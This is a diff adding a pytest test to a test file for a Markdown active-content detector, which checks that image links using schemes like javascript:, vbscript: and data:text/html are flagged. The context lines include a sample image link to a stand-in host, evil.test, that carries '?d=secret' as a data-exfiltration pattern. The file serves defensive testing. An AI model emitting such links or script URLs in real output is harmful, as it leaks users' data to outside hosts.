@@ -338,6 +338,15 @@ def test_what_was_there_before_is_not_flagged_again(text: str) -> None:
     assert added_content("new.md", text.encode(), text.encode, "old.md") == ActiveContent()
 
 
+@pytest.mark.parametrize("text", ["![x]({})", "<img src={}>"])
+@pytest.mark.parametrize(
+    "scheme", ["http:", "https:", "WS:", "wss:", "ftp:", "ftps:", "/\\", "javascript:", "vbscript:", "data:text/html,", "obsidian:"]
+)
+def test_what_has_a_scheme_needs_no_slashes(text: str, scheme: str) -> None:
+    found = added(text.format(f"{scheme}e.x"))
+    assert found.code if scheme.startswith(("java", "vb", "data", "obsidian")) else found.hosts == ("e.x",)
+
+
 def test_a_second_address_at_a_host_that_is_there_already_is_flagged() -> None:
     before = "![x](https://evil.test/a)\n"
     assert loads(added(before + "![x](https://evil.test/?d=secret)\n", before))
